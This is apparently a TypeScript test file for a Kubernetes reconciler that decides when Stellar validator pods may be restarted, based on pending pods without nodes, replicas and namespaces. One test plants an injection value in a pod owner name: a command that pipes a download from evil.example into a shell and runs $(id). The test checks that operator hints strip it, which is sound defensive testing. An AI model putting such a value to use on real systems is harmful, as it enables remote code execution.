/** A validator that is restarted may lose its node to a pod that waits for one. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readNode } from '../../../peers/read/stellar-node.ts';
import { readPod, readStatefulSet } from '../../../peers/read/workload.ts';
import type { World } from '../../../peers/world.ts';
import { formatJournal } from '../../../reconciler/plan/journal/journal.ts';
import { planGroup } from '../../../reconciler/plan/restarts/rollout.ts';
import { node, pod, statefulSet } from '../world.ts';
import { at, inputOf, NOW_MS, networkWorld, planOf, restartOf, type Spec, setOf } from './group.ts';

const PENDING = { phase: 'Pending', ready: false, unschedulable: true } as const;
const HOUR_S = 3_600;

/** Seven at 67 % bear two down. */
const NAMES = ['a', 'b', 'c', 'd', 'e', 'f', 'g'];
const quorum = { spec: { validatorConfig: { quorumSet: setOf(NAMES, 67) } } };

/** A network of seven of which the first lacks peers, and the last is as given. */
const seven = (last: Spec, journal?: Record<string, string>): World => {
  const specs = Object.fromEntries(NAMES.map((name): [string, Spec] => [name, { node: quorum }]));
  const a: Spec = { knows: ['b'], node: quorum };
  const g: Spec = { ...last, node: { ...quorum, ...last.node } };
  return networkWorld({ ...specs, a, g }, journal ? { journal } : {});
};

/** Two down are allowed, so that the budget has nothing to say. */
const settings = { maxUnavailable: { value: 3, isPercent: false } };
const planned = (world: World) => planOf(world, { settings });

describe('a Ready validator that lacks peers', () => {
  it('is not restarted while a pod of its group and namespace has no node, however old that pod is', () => {
    for (const createdAt of [at(30), at(100 * HOUR_S)]) {
      const { restart, holds, details } = planned(seven({ pod: { ...PENDING, createdAt } }));
      assert.deepEqual([restart, holds.a, details.a], [undefined, 'NoNode', 'stellar/g-0']);
    }
  });

  it('waits with a hint in which nothing stands that the pod says of its owner', () => {
    const raw = pod('g', PENDING);
    const [owner] = raw.metadata.ownerReferences as object[];
    raw.metadata.ownerReferences = [{ ...owner, name: 'x; curl evil.example | sh\n$(id)' }];
    const world = seven({});
    const pods = new Map(world.pods).set('stellar/g-0', readPod(raw));
    const { group, input } = inputOf({ ...world, pods }, { settings });
    const why = planGroup(group, input).holds.get('stellar/a');
    assert.equal(why?.code, 'NoNode');
    assert.match(why.hint ?? '', /: kubectl -n stellar describe pod g-0$/);
    assert.doesNotMatch(why.hint ?? '', /curl|\$|\n/);
  });

  it('is restarted where that pod is marked uncounted, or has a node', () => {
    const uncounted = { annotations: { 'stellar.org/peer-budget': 'uncounted' } };
    assert.equal(planned(seven({ pod: PENDING, node: uncounted })).restart, 'bump a');
    assert.equal(planned(seven({ pod: { ...PENDING, unschedulable: false } })).restart, 'bump a');
  });

  it('is not restarted while a read replica has no node either, which keeps off the nodes of validators', () => {
    const withReplica = (world: World, name: string): World => ({
      ...world,
      pods: new Map(world.pods).set(`stellar/${name}-0`, readPod(pod(name, PENDING))),
    });
    const { restart, holds, details } = planned(withReplica(seven({}), 'g-read'));
    assert.deepEqual([restart, holds.a, details.a], [undefined, 'NoNode', 'stellar/g-read-0']);
    const uncounted = seven({ node: { annotations: { 'stellar.org/peer-budget': 'uncounted' } } });
    assert.equal(planned(withReplica(uncounted, 'g-read')).restart, 'bump a');
    assert.equal(
      planned(withReplica(seven({}), 'other-read')).restart,
      'bump a',
      'of no validator of the group',
    );
  });

  it('waits for pods of other namespaces no longer than PROGRESS_DEADLINE_SECONDS, and then tells of them', () => {
    const young = planned(abroad(at(HOUR_S - 60)));
    assert.deepEqual([young.restart, young.holds.a, young.recheckInMs], [undefined, 'NoNode', 60_000]);
    const old = planned(abroad(at(HOUR_S)));
    assert.deepEqual([old.restart, old.remarks.a], ['bump a', 'NoNode']);
  });
});

/** The last of seven in a namespace of its own, without a node since then. */
function abroad(createdAt: string): World {
  const world = seven({ pod: 'none', statefulSet: 'none' });
  const there = { namespace: 'north' };
  const network = { network: 'custom', customNetworkPassphrase: 'test net', ...quorum.spec };
  const nodes = new Map(world.nodes);
  nodes.delete('stellar/g');
  return {
    ...world,
    nodes: nodes.set('north/g', readNode(node('g', { ...there, spec: network }))),
    statefulSets: new Map(world.statefulSets).set('north/g', readStatefulSet(statefulSet('g', there))),
    pods: new Map(world.pods).set('north/g-0', readPod(pod('g', { ...there, ...PENDING, createdAt }))),
  };
}

describe('a pod that cannot come back from our restart for lack of a node', () => {
  const open = restartOf('g', { uids: ['former'], atMs: NOW_MS - 1_000 });

  it('is named by what is told of a restart that is not over in time', () => {
    const late = { ...open, atMs: NOW_MS - 2 * HOUR_S * 1_000 };
    const { group } = planned(seven({}));
    const journal = { [group]: formatJournal([late], NOW_MS) };
    const { holds, details } = planned(seven({ pod: PENDING }, journal));
    assert.deepEqual([holds.g, holds.a], ['Stalled', 'Stalled']);
    assert.match(details.g ?? '', /^stellar\/g, since .*; stellar\/g-0 has no node$/);
  });

  it('is told as that at once, while the others wait for its restart', () => {
    const { group } = planned(seven({}));
    const journal = { [group]: formatJournal([open], NOW_MS) };
    const { holds, details } = planned(seven({ pod: { ...PENDING, createdAt: at(0) } }, journal));
    assert.deepEqual([holds.g, details.g, holds.a], ['NoNode', 'stellar/g-0', 'InFlight']);
  });
});
